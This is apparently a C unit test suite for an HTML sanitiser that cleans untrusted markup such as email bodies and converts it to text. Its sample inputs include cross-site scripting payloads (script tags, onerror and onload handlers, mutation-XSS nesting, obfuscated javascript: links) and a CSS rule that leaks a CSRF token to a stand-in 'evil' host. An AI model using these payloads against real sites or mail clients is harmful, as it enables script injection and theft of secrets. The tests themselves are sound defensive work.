// SPDX-License-Identifier: AGPL-3.0-or-later
#include "outside/sanitise.h"

#include <string.h>

#include "base/text.h"
#include "domain/safe_html.h"
#include "outside/html_text.h"
#include "support/check.h"

#define LINK(href, text) "<a href=\"" href "\" rel=\"noopener noreferrer nofollow\">" text "</a>"

static struct slice clean(struct slice html, struct arena *arena)
{
    struct sanitised first = sanitise(html, SAFE_HTML_MAX, arena);
    struct sanitised second = sanitise(first.html, SAFE_HTML_MAX, arena);

    assert_true(safe_html_is_canonical(first.html));
    assert_true(slice_equal(first.html, second.html));
    assert_int_equal(second.remote_pictures, 0);
    return first.html;
}

struct sample {
    const char *html, *expected;
};

static void check_samples(const struct sample *samples, size_t count)
{
    for (size_t i = 0; i < count; i++) {
        struct arena arena = {0};

        assert_string_equal(clean(slice_of(samples[i].html), &arena).at, samples[i].expected);
        arena_free(&arena);
    }
}
#define CHECK(samples) check_samples((samples), sizeof(samples) / sizeof((samples)[0]))

/* AC-001, AC-003, AC-005 */
static void what_runs_or_leads_away_is_left_out(void **state)
{
    static const struct sample samples[] = {
        {"a<script>alert(1)</script>b", "ab"},
        {"a<SCRIPT\n>x</ScRiPt\t>b", "ab"},
        {"<script>unclosed", ""},
        {"a<style>input[name=csrf][value^=a]{background:url(//evil/a)}</style>b", "ab"},
        {"<p style='background:url(//evil/a)' onclick=x class=a id=b>b</p>", "<p>b</p>"},
        {"<base href=//evil>a<meta http-equiv=refresh content='0;url=//evil'>b", "ab"},
        {"<form action=//evil><input name=a>field<button>press</button></form>", "fieldpress"},
        {"<iframe srcdoc='<script>alert(1)</script>'>x</iframe>a", "a"},
        {"<object data=x><p>a</p></object>b<embed src=x>c", "bc"},
        {"<link rel=stylesheet href=//evil><title>t</title>a", "a"},
        {"a<template><img src=x></template>b<textarea><img></textarea>c", "abc"},
        {"<!-- a --><![CDATA[ b ]]><?php c ?>d<!doctype html>e", "de"},
        {"<!--[if mso]><p>a</p><![endif]-->b<![if !mso]>c<![endif]>d", "bcd"},
        {"<!-->a-->b<!--->c", "a--&gt;bc"},
    };

    (void)state;
    CHECK(samples);
}

/* AC-002 */
static void nothing_of_foreign_content_is_left(void **state)
{
    static const struct sample samples[] = {
        {"<img src=x onerror=alert(1)>", ""},
        {"<svg onload=alert(1)><p>a</p></svg>b", "b"},
        {"<svg/onload=alert(1)>b", ""},
        {"<svg/>b", "b"},
        {"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
         "onerror=alert(1)&gt;'>",
         ""},
        {"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", ""},
        {"<p title='</p><img src=x onerror=y>'>a", "<p>a</p>"},
        {"<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<p></p>"},
        {"<a title=\"`<img onerror=x>`\">a</a>", "<a>a</a>"},
        {"<img src=\"cid:x\" alt=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
         "<img src=\"cid:x\" alt=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"},
        {"<x-y><p>a</x-y>b", "<p>ab</p>"},
        {"a&lt;script&gt;b", "a&lt;script&gt;b"},
        {"&#60;script&#x3E; &amp;lt; &unknown; &#0; &#x110000;",
         "&lt;script&gt; &amp;lt; &amp;unknown; \xEF\xBF\xBD \xEF\xBF\xBD"},
        {"a < b <3 </> </3>c", "a &lt; b &lt;3  c"},
        {"a<b", "a"},
        {"\xE2\x80\xAE"
         "abc\x01\x00"
         "d",
         "abc"},
    };

    (void)state;
    CHECK(samples);
}

/* AC-004 */
static void links_lead_to_harmless_places_only(void **state)
{
    static const struct sample samples[] = {
        {"<a href='javascript:alert(1)'>x</a>", "<a>x</a>"},
        {"<a href='java\nscript:alert(1)'>x</a>", "<a>x</a>"},
        {"<a href='java&#9;script&colon;alert(1)'>x</a>", "<a>x</a>"},
        {"<a href='&#1;javascript:alert(1)'>x</a>", "<a>x</a>"},
        {"<a href='data:text/html,x'>x</a>", "<a>x</a>"},
        {"<a href=vbscript:x>x</a>", "<a>x</a>"},
        {"<a href='//evil.example'>x</a>", "<a>x</a>"},
        {"<a href=/settings>x</a>", "<a>x</a>"},
        {"<a href=' HT\tTPS://ok.example/a b?c=1&amp;d=\"'>x</a>",
         LINK("https://ok.example/a%20b?c=1&amp;d=&quot;", "x")},
        {"<a href=mailto:ana@primjer.example>x</a>", LINK("mailto:ana@primjer.example", "x")},
        {"<a href='tel:+38591'>x</a>", LINK("tel:+38591", "x")},
        {"<a href=https:>x</a>", "<a>x</a>"},
        {"<a href=https://a.example href=javascript:x>x</a>", LINK("https://a.example", "x")},
    };

    (void)state;
    CHECK(samples);
}

static void what_is_left_stands_as_browsers_see_it(void **state)
{
    static const struct sample samples[] = {
        {"<p>a<p>b", "<p>a</p><p>b</p>"},
        {"<p>a<div>b</div>c", "<p>a</p><div>b</div>c"},
        {"<ul><li>a<li>b<ul><li>c</ul><li>d</ul>",
         "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>"},
        {"<dl><dt>a<dd>b<dt>c</dl>", "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>"},
        {"<a href=http://a.example>b<a href=http://c.example>d",
         LINK("http://a.example", "b") LINK("http://c.example", "d")},
        {"<table><td>a<td>b<tr><td>c</table>d",
         "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>d"},
        {"<table>a<tr>b<td>c</table>",
         "<table><tr><td>a</td></tr><tr><td>b</td><td>c</td></tr></table>"},
        {"<table><tbody><tr>\n<td>a</td>\n</tr></tbody></table>",
         "<table><tr><td>a</td></tr></table>"},
        {"<table><tr><td><table><tr><td>a</td></tr></table>b</td></tr></table>",
         "<table><tr><td><table><tr><td>a</td></tr></table>b</td></tr></table>"},
        {"<td>a</td>", "a"},
        {"<b>a<table><tr><td></b>c</table>d", "<b>a<table><tr><td>c</td></tr></table>d</b>"},
        {"<h1>a<h2>b", "<h1>a</h1><h2>b</h2>"},
        {"</p></div>a</b>", "a"},
        {"<center><font color=red>a</font></center>", "<div><span>a</span></div>"},
        {"a<br/>b<hr>c", "a<br>b<hr>c"},
        {"<p dir=RTL lang=ar>a</p>", "<p dir=\"rtl\">a</p>"},
        {"<td colspan=2>x", "x"},
        {"<table><td colspan=2 rowspan=999999>x",
         "<table><tr><td colspan=\"2\">x</td></tr></table>"},
        {"<div hidden>a</div><p style='Display : none'>b<p>c</p></p>d", "d"},
    };

    (void)state;
    CHECK(samples);
}

/* AC-006 */
static void pictures_from_elsewhere_are_counted(void **state)
{
    static const char html[] = "<img src='http://tracker.example/p.gif?u=1' alt='shop'>"
                               "<img src=//tracker.example/q><img src='&#104;ttps://x.example/'>"
                               "<img src=data:image/png;base64,AA><img src='cid:a@b' width=10>";
    struct arena arena = {0};

    (void)state;
    struct sanitised safe = sanitise(slice_of(html), SAFE_HTML_MAX, &arena);
    assert_int_equal(safe.remote_pictures, 3);
    assert_string_equal(safe.html.at, "shop<img src=\"cid:a@b\" width=\"10\">");
    arena_free(&arena);
}

static void depth_and_length_are_bounded(void **state)
{
    static const char *const repeated[] = {"<div>",
                                           "<table><tr><td>",
                                           "<b x><p>",
                                           "<ul><li>",
                                           "<a href=http://a.example>",
                                           "<",
                                           "<!--",
                                           "&",
                                           "<svg>",
                                           "<table>",
                                           "<blockquote>x"};

    (void)state;
    for (size_t kind = 0; kind < sizeof(repeated) / sizeof(repeated[0]); kind++) {
        struct arena arena = {0};
        struct text html = text_new(&arena);

        for (int i = 0; i < 20000; i++)
            text_add(&html, repeated[kind]);
        struct slice safe = clean((struct slice){html.at, html.length}, &arena);
        bool is_cut;
        struct slice text = html_text(safe, 100000, &arena, &is_cut);
        assert_true(text.length <= 100000);
        arena_free(&arena);
    }
}

static void a_limit_leaves_whole_html(void **state)
{
    struct arena arena = {0};
    struct text html = text_new(&arena);

    (void)state;
    for (int i = 0; i < 3000; i++)
        text_format(&html, "<p>&amp;č<b>%d</b><table><tr><td>x</td></tr></table>", i);
    for (size_t max = 22000; max < 22100; max++) {
        struct sanitised safe = sanitise((struct slice){html.at, html.length}, max, &arena);
        struct sanitised again = sanitise(safe.html, max, &arena);

        assert_true(safe.is_cut && safe.html.length <= max);
        assert_true(safe_html_is_canonical(safe.html));
        assert_true(slice_equal(safe.html, again.html));
    }
    arena_free(&arena);
}

static void only_what_is_canonical_is_called_so(void **state)
{
    static const char *const wrong[] = {"<script>",
                                        "<p>",
                                        "</p>",
                                        "<p></b>",
                                        "<P></P>",
                                        "<p onclick=\"\"></p>",
                                        "<p ></p>",
                                        "<p\n></p>",
                                        "<br/>",
                                        "<br></br>",
                                        "a & b",
                                        "a > b",
                                        "\"",
                                        "&nbsp;",
                                        "<a href=\"javascript:x\"></a>",
                                        "<a href=\"https://a b\"></a>",
                                        "<a rel=\"noopener\"></a>",
                                        "<img src=\"http://a\">",
                                        "<img src=\"cid:\">",
                                        "<p dir=\"up\"></p>",
                                        "<td colspan=\"99999\"></td>",
                                        "<!-- -->",
                                        "<p dir=\"ltr\" dir=\"ltr\"></p>",
                                        "a\x01",
                                        "\xE2\x80\xAE",
                                        "\xFF",
                                        "<",
                                        "<a href='https://a'></a>",
                                        "<img alt=\"a\" src=\"cid:a\">"};

    (void)state;
    for (size_t i = 0; i < sizeof(wrong) / sizeof(wrong[0]); i++)
        assert_false(safe_html_is_canonical(slice_of(wrong[i])));
    assert_true(safe_html_is_canonical((struct slice){"", 0}));
    assert_true(safe_html_is_canonical(slice_of("a<p dir=\"auto\">&lt;<br></p>č\n\t")));
}

static void html_reads_as_text(void **state)
{
    static const struct sample samples[] = {
        {"<p>a\n b</p><p>c</p>", "a b\n\nc\n"},
        {"a<br>b<br><br>c", "a\nb\n\nc\n"},
        {"<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>d", "- a\n  - b\n- c\n\nd\n"},
        {"<ol><li>a</li><li>b</li></ol>", "1. a\n2. b\n"},
        {LINK("https://a.example/x?y=1&amp;z=2", "here"), "here <https://a.example/x?y=1&z=2>\n"},
        {LINK("https://www.a.example/", "a.example"), "a.example\n"},
        {LINK("mailto:a@b.example", "a@b.example"), "a@b.example\n"},
        {"a<blockquote>b<br>c<blockquote>d</blockquote></blockquote>e", "a\n> b\n> c\n> > d\ne\n"},
        {"<table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>",
         "a\tb\nc\td\n"},
        {"<pre>a\n  b</pre>", "a\n  b\n"},
        {"<h1>t</h1>x<hr>y", "t\n\nx\n----------\ny\n"},
        {"<img src=\"cid:a\" alt=\"our logo\">", "our logo\n"},
        {"a &lt;b&gt; &amp;amp;", "a <b> &amp;\n"},
        {"", ""},
    };

    (void)state;
    for (size_t i = 0; i < sizeof(samples) / sizeof(samples[0]); i++) {
        struct arena arena = {0};
        bool is_cut;

        assert_string_equal(html_text(slice_of(samples[i].html), 1000, &arena, &is_cut).at,
                            samples[i].expected);
        assert_false(is_cut);
        arena_free(&arena);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_runs_or_leads_away_is_left_out),
        cmocka_unit_test(nothing_of_foreign_content_is_left),
        cmocka_unit_test(links_lead_to_harmless_places_only),
        cmocka_unit_test(what_is_left_stands_as_browsers_see_it),
        cmocka_unit_test(pictures_from_elsewhere_are_counted),
        cmocka_unit_test(depth_and_length_are_bounded),
        cmocka_unit_test(a_limit_leaves_whole_html),
        cmocka_unit_test(only_what_is_canonical_is_called_so),
        cmocka_unit_test(html_reads_as_text),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
